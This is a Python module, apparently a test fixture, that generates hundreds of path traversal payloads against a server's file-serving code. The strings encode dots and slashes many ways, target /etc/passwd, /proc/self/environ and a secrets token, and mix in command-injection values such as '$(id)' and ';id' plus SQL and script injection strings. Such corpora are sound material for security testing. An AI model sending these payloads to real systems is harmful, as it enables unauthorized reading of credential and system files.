"""Ways to ask for a file that is not one's own, as they have worked against one server or another."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import product

# ruff: noqa: RUF001 - that they look like dots and slashes is what they are here for
_DOTS = (
    "..", "%2e%2e", "%2E%2E", "%252e%252e", "%25252e%25252e", ".%2e", "%2e.", "....", "..;", "..%00", "..%0a",
    "．．", "․․", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%u002e%u002e", "..#", "..?",
)  # fmt: skip
_SLASHES = (
    "/", "\\", "//", "/./", "%2f", "%2F", "%5c", "%252f", "%255c", "%25252f", "%c0%af", "%e0%80%af",
    "%ef%bc%8f", "%u2215", "∕", "／", "⁄", "⧵", ";/", "/;", "%00/", "%09/", "#/", "?/",
)  # fmt: skip

_WHOLE = (
    "/etc/passwd", "//etc/passwd", "///etc/passwd", "\\etc\\passwd", "file:///etc/passwd",
    "file://localhost/etc/passwd", "/proc/self/environ", "/proc/self/fd/0", "/proc/self/cwd/secret",
    "/proc/1/root/etc/passwd", "/dev/stdin", "/run/secrets/epochd_token", "%2fetc%2fpasswd",
    "%252fetc%252fpasswd", "C:\\boot.ini", "C:/boot.ini", "c:boot.ini", "C%3A%5Cboot.ini",
    "\\\\host\\share\\secret", "//host/share/secret", "\\\\?\\C:\\boot.ini", "\\\\.\\pipe\\x",
    "..\\..\\windows\\win.ini", "secret::$DATA", "secret.", "secret ", "secret%20", "secret%00.png",
    "secret\0.png", "secret;.png", "secret#.png", "secret?.png", "secret/.", "secret/..", "./secret",
    ".\\secret", ".//secret", "con", "nul", "aux", "com1", "lpt1.txt", "CON.png", "~", "~root", "~/secret",
    "$HOME/secret", "%HOME%/secret", "${HOME}/secret", "`id`", "$(id)", ";id", "|id", "&id", "*", "?",
    "[a-z]", "{secret,x}", ".", "..", "...", "....", "../", "/..", "..\\", "..;/", "%2e", "%2e%2e", "%252e",
    "%00", "%0a", "%0d%0aX: y", "%ff%fe", "%80", "%", "%%", "%zz", "\u202e", "\u2028", "\ufeffsecret",
    "\U0001f600", "%ed%a0%80", "..%u2216secret", "sec\u0000ret", "SECRET", "/jobs/../secret",
    "web/../../secret", "static/..%2f..%2fsecret", "....//....//secret", "..././..././secret",
    "..%c1%9csecret", "..%c0%9vsecret", "%uff0e%uff0e/secret", "epochd.db", "../epochd.db",
    "../../epochd.db-wal", "../api/app.py", "..%2fapp.py", "app.py", "__init__.py", "index.html/../app.py",
    "vendor/../../app.py", "' OR 1=1 --", "\";--", "<script>", "a" * 5000, "../" * 1000 + "etc/passwd",
    "%2e%2e%2f" * 300 + "etc%2fpasswd",
)  # fmt: skip


def climbs() -> Sequence[str]:
    """All of them, each once, none empty."""
    crossed = [
        (dots + slash) * (1 + index % 3) + ("secret" if index % 2 else "etc/passwd")
        for index, (dots, slash) in enumerate(product(_DOTS, _SLASHES))
    ]
    return list(dict.fromkeys([*_WHOLE, *crossed]))
